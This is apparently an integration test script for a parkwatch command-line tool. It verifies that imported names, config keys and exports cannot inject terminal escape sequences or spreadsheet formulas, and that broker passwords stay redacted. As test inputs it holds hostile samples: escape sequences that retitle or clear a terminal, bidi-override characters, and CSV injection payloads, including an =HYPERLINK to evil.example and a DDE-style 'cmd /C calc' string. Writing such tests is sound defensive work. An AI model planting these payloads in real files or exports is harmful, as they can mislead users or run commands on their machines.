#!/bin/bash
# Hostile text and secrets (issue 13): nothing from imported data or a config
# file reaches the terminal as an escape sequence; tsv/json for scripts write
# controls, bidi and zero-width characters as \u escapes; a CSV export cannot
# carry a spreadsheet formula; a broker password with '/', '?' or '#' never
# appears on stderr or in ps; an unknown [site] timezone is an error; in the
# console, hidden characters neither reach the screen nor shift a column.
. "$abs_top_srcdir/tests/integration/lib.sh"

D=$(pw_tmpdir)
export PARKWATCH_DB="$D/park.db"
export PARKWATCH_OPERATOR=tester
printf '[mqtt]\n' >"$D/empty.ini"
chmod 0600 "$D/empty.ini"

ESC=$'\033'
BEL=$'\a'
ZWSP=$'\xe2\x80\x8b'
RLO=$'\xe2\x80\xae'

test_query_of_a_hostile_enterprise_name_has_no_escape_and_shows_the_zero_width_char()
{
	assert_exit 0 "$PW" --config "$D/empty.ini" db init
	# OSC 0 (retitle the pane), CSI 2J (clear), a zero-width space, a bidi override
	printf 'code,name,industry,zone\n' >"$D/e.csv"
	printf 'H-1,"Evil\033]0;pwned\007\033[2J化工\xe2\x80\x8b厂\xe2\x80\xaeexe",化工,一期\n' >>"$D/e.csv"
	assert_exit 0 "$PW" --config "$D/empty.ini" import enterprises "$D/e.csv"
	assert_not_contains "$RUN_OUT$RUN_ERR" "$ESC" "import echoed an ESC byte"

	assert_exit 0 "$PW" --config "$D/empty.ini" query enterprises
	assert_not_contains "$RUN_OUT" "$ESC" "query tsv printed an ESC byte"
	assert_not_contains "$RUN_OUT" "$BEL" "query tsv printed a BEL byte"
	assert_not_contains "$RUN_OUT" "$ZWSP" "query tsv printed a raw zero-width space"
	assert_not_contains "$RUN_OUT" "$RLO" "query tsv printed a raw bidi override"
	assert_contains "$RUN_OUT" $'H-1\tEvil\\u001b]0;pwned\\u0007\\u001b[2J化工\\u200b厂\\u202eexe\t' \
		"the name is not escaped as \\uXXXX (Chinese kept as it is)"

	assert_exit 0 "$PW" --config "$D/empty.ini" query enterprises --format json
	assert_not_contains "$RUN_OUT" "$ESC" "query json printed an ESC byte"
	assert_not_contains "$RUN_OUT" "$ZWSP" "query json printed a raw zero-width space"
	assert_contains "$RUN_OUT" '化工\u200b厂\u202eexe' "json does not escape the zero-width space and override"
	# Still JSON, and it still means the stored name.
	python3 -c '
import json, sys
rows = json.load(sys.stdin)
name = [r["name"] for r in rows if r["code"] == "H-1"][0]
assert name == "Evil\x1b]0;pwned\x07\x1b[2J化工\u200b厂\u202eexe", repr(name)
' <<<"$RUN_OUT" || fail "query json does not round-trip the hostile name"

	# What query printed imports back to the same name (\u escapes are read).
	"$PW" --config "$D/empty.ini" query enterprises >"$D/back.tsv"
	assert_exit 0 "$PW" --config "$D/empty.ini" --db "$D/back.db" db init
	assert_exit 0 "$PW" --config "$D/empty.ini" --db "$D/back.db" import enterprises "$D/back.tsv"
	assert_eq "$("$PW" --config "$D/empty.ini" query enterprises --format json)" \
		"$("$PW" --config "$D/empty.ini" --db "$D/back.db" query enterprises --format json)" \
		"the tsv of query does not import back to the same rows"
}

test_unknown_config_key_warning_has_no_escape_sequence()
{
	printf '[console]\nx\033]0;pwned\007\033[2J = 1\n' >"$D/esc.ini"
	chmod 0600 "$D/esc.ini"
	assert_exit 0 "$PW" --config "$D/esc.ini" query teams
	assert_match "$RUN_ERR" "warning: config: .*esc\.ini:2: unknown key \[console\] x"
	assert_not_contains "$RUN_ERR" "$ESC" "the warning echoed an ESC byte"
	assert_not_contains "$RUN_ERR" "$BEL" "the warning echoed a BEL byte"
	# Bad usage quotes what was typed: sanitised too.
	assert_exit 2 "$PW" --config "$D/empty.ini" query "t$ESC]0;x$BEL"
	assert_not_contains "$RUN_ERR" "$ESC" "a usage error echoed an ESC byte"
}

test_csv_export_neutralises_formulas()
{
	assert_exit 0 "$PW" --config "$D/empty.ini" log --category note -- '=HYPERLINK("http://evil.example/?x","ok")'
	assert_exit 0 "$PW" --config "$D/empty.ini" log --category note -- '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0'
	assert_exit 0 "$PW" --config "$D/empty.ini" log --category note -- '-2+3+cmd'
	assert_exit 0 "$PW" --config "$D/empty.ini" log --category note -- '+1'
	assert_exit 0 "$PW" --config "$D/empty.ini" log --category note -- "$(printf '\t=1+2')"
	assert_exit 0 "$PW" --config "$D/empty.ini" report shift --format csv
	assert_not_contains "$RUN_OUT" "$ESC" "the CSV carries an ESC byte"
	python3 -c '
import csv, io, re, sys
rows = list(csv.reader(io.StringIO(sys.stdin.read())))
assert rows[0] == ["section", "item", "field", "value"], rows[0]
texts = [r[3] for r in rows[1:]]
for v in texts:
    if v[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+(\.\d+)?", v):
        sys.exit("formula cell left as it is: %r" % v)
for want in ("'"'"'=HYPERLINK(", "'"'"'@SUM(1+1)", "'"'"'-2+3+cmd", "'"'"'+1"):
    if not any(v.startswith(want) for v in texts):
        sys.exit("no neutralised cell %r in %r" % (want, texts))
' <<<"$RUN_OUT" || fail "report shift --format csv wrote a formula cell"
}

test_broker_password_with_slash_hash_query_never_reaches_stderr_or_ps()
{
	broker_start
	local secret='pa/ss#?s3cr' url
	url="mqtt://duty:$secret@127.0.0.1:$BROKER_PORT"
	# The recorder connects (the URL parses) and says where, redacted.
	bg_start rec "$PW" --config "$D/empty.ini" --broker "$url" record --client-id "pwtest-hostile-$$"
	wait_until 15 grep -q "link up" "$(bg_log rec)" || fail "record did not connect: $(cat "$(bg_log rec)")"
	local args
	args=$(ps -o args= -p "$(bg_pid rec)")
	[ -n "$args" ] || fail "cannot read the recorder's command line"
	assert_not_contains "$args" "s3cr" "ps shows the URL's password"
	assert_contains "$args" "mqtt://duty:***@127.0.0.1:$BROKER_PORT" "ps does not show the redacted URL"
	bg_stop rec
	assert_not_contains "$(cat "$(bg_log rec)")" "s3cr" "the recorder's stderr shows the password"
	assert_contains "$(cat "$(bg_log rec)")" "mqtt://duty:***@127.0.0.1" "the recorder does not name its broker"

	# A URL that is wrong for another reason: the error quotes it redacted.
	assert_exit 1 "$PW" --config "$D/empty.ini" --broker "mqtt://duty:$secret@127.0.0.1:$BROKER_PORT/topic" \
		record --client-id "pwtest-hostile-$$"
	assert_contains "$RUN_ERR" "mqtt://duty:***@" "the error does not quote the URL"
	assert_not_contains "$RUN_ERR" "s3cr" "the error shows the password"
	PARKWATCH_BROKER="mqtt://duty:$secret@127.0.0.1:0" run "$PW" --config "$D/empty.ini" \
		record --client-id "pwtest-hostile-$$"
	assert_not_contains "$RUN_ERR" "s3cr" "an error about \$PARKWATCH_BROKER shows the password"

	# In a config file readable by others: a warning, without the password.
	printf '[mqtt]\nbroker = mqtt://duty:%s@127.0.0.1:%s\n' "$secret" "$BROKER_PORT" >"$D/url.ini"
	chmod 0644 "$D/url.ini"
	assert_exit 0 "$PW" --config "$D/url.ini" query teams
	assert_match "$RUN_ERR" "warning: .*url\.ini holds a password in its broker URL and is readable by others"
	assert_not_contains "$RUN_ERR" "s3cr" "the warning shows the password"
	chmod 0600 "$D/url.ini"
	assert_exit 0 "$PW" --config "$D/url.ini" query teams
	assert_not_contains "$RUN_ERR" "readable by others" "warning although the file is private"
}

test_unknown_timezone_is_an_error_naming_the_zone()
{
	printf '[site]\ntimezone = Asia/Shangai\n' >"$D/tz.ini"
	assert_exit 1 "$PW" --config "$D/tz.ini" query teams
	assert_match "$RUN_ERR" "^parkwatch: config: .*tz\.ini:2: \[site\] timezone: unknown time zone 'Asia/Shangai'"
	assert_eq "" "$RUN_OUT" "a command ran on the wrong clock"
	printf '[site]\ntimezone = Asia/Shanghai\n' >"$D/tz.ini"
	assert_exit 0 "$PW" --config "$D/tz.ini" query teams
}

# Display column where the risk label starts, for every list row showing one.
risk_columns()
{
	local line label prefix
	while IFS= read -r line; do
		for label in '红 red' '橙 orange' '黄 yellow' '蓝 blue'; do
			[[ $line == *"$label"* ]] || continue
			prefix=${line%%"$label"*}
			printf '%s' "$prefix" | wc -L
			break
		done
	done <<<"$1"
}

test_console_rows_stay_aligned_and_the_pane_title_unchanged()
{
	local db="$D/console.db" codes code i=0 screen cols
	assert_exit 0 "$PW" --config "$D/empty.ini" --db "$db" db init
	assert_exit 0 "$PW" --config "$D/empty.ini" --db "$db" seed --enterprises 12 --seed 3
	codes=$("$PW" --config "$D/empty.ini" --db "$db" query enterprises | awk -F '\t' 'NR > 1 && NR <= 7 { print $1 }')
	printf 'code,name,industry,zone\n' >"$D/hostile.csv"
	for code in $codes; do
		i=$((i + 1))
		printf '%s,"危\xe2\x80\x8b险\xe2\x80\x8b品%d\xe2\x80\xae\xef\xbb\xbf\033]0;pwned\007\033[2J",化工,一期\n' \
			"$code" "$i" >>"$D/hostile.csv"
	done
	assert_exit 0 "$PW" --config "$D/empty.ini" --db "$db" import enterprises "$D/hostile.csv"
	tui_start hostile 80 24 "$PW" --config "$D/empty.ini" --db "$db" console --no-mqtt --operator 值班员
	tui_wait hostile 'Enterprises 12'
	tui_keys hostile 2
	tui_wait hostile '品1'
	screen=$(tui_screen hostile)
	assert_not_contains "$screen" "$ZWSP" "a zero-width space reached the screen"
	assert_not_contains "$screen" "$RLO" "a bidi override reached the screen"
	cols=$(risk_columns "$screen")
	[ "$(grep -c . <<<"$cols")" -ge 7 ] || fail "too few rows with a risk label: $(printf '\n%s' "$screen")"
	[ "$(sort -u <<<"$cols" | grep -c .)" = 1 ] ||
		fail "the risk column moved on rows with hidden characters: $(printf '\n%s' "$screen")"
	assert_not_contains "$(_pw_tmux display-message -p -t hostile '#{pane_title}')" "pwned" \
		"an OSC sequence in a name retitled the pane"
	tui_keys hostile q
	assert_eq 0 "$(tui_exit_status hostile)" "the console did not quit cleanly"
}

test_query_of_a_hostile_enterprise_name_has_no_escape_and_shows_the_zero_width_char
test_unknown_config_key_warning_has_no_escape_sequence
test_csv_export_neutralises_formulas
test_broker_password_with_slash_hash_query_never_reaches_stderr_or_ps
test_unknown_timezone_is_an_error_naming_the_zone
test_console_rows_stay_aligned_and_the_pane_title_unchanged
